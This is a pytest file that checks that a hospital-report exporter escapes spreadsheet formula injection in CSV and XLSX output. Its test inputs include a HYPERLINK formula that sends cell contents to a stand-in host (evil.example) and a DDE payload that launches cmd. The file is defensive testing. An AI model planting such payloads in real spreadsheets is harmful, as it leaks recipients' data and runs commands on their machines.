"""Spreadsheet formula injection: text an export writes is never run as a formula by Excel,
WPS or LibreOffice, in CSV and in XLSX, while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from guahao.core.reports import to_csv, to_xlsx
from guahao.core.reports.base import ChartHint, Column, Report, ReportFilter
from guahao.core.spreadsheets import FORMULA_STARTS, csv_cell, plain_text, xlsx_append

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+86 138 0000 0000", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_in_csv(text):
    assert text[:1] in FORMULA_STARTS
    assert csv_cell(text) == "'" + text
    assert plain_text(csv_cell(text)) == text  # what importers read back


def test_plain_text_numbers_and_blanks_are_left_alone():
    for value in ("第一人民医院", "010-12320001", "", "'quoted", "a=b"):
        assert csv_cell(value) == value and plain_text(value) == value
    assert csv_cell(None) == ""
    assert csv_cell(-5) == -5 and csv_cell(-0.25) == -0.25 and csv_cell(12) == 12
    assert csv_cell("-5") == "-5" and csv_cell("-12.50") == "-12.50"  # a negative number written as text
    assert plain_text(12) == 12 and plain_text(None) is None


def _report(label: str, value: int) -> Report:
    columns = [Column("label", "医院", "Hospital", kind="text"), Column("n", "数量", "Count")]
    rows = [{"label": label, "n": value}, {"label": "第二医院", "n": 3}]
    return Report("test", "测试报表", "Test report", ReportFilter(date(2026, 1, 1), date(2026, 1, 31)), columns, rows,
                  {"label": "合计", "n": value + 3}, ChartHint("bar", ("n",)))


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", ATTACKS)
def test_report_exports_write_a_formula_name_as_text(text):
    report = _report(text, -4)
    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + text, "-4"] and rows[2] == ["第二医院", "3"] and rows[-1] == ["合计", "-1"]

    data = to_xlsx(report)
    assert "<f>" not in _sheet_xml(data)  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(data)).active
    name, count = ws.cell(3, 1), ws.cell(3, 2)
    assert name.value == text.replace("\r", "\n")  # XML reads a carriage return as a line feed
    assert (name.data_type, name.quotePrefix) == ("s", True)
    assert (count.value, count.data_type) == (-4, "n")  # a negative number stays a number


def test_xlsx_append_keeps_numbers_and_plain_text():
    wb = Workbook()
    ws = wb.active
    xlsx_append(ws, ["=1+1", -7, 2.5, "文本", None, "-3"])
    cells = ws[1]
    assert [c.data_type for c in cells[:4]] == ["s", "n", "n", "s"]
    assert cells[0].quotePrefix and not cells[3].quotePrefix
    assert cells[4].value is None and cells[5].value == "-3" and cells[5].data_type == "s"
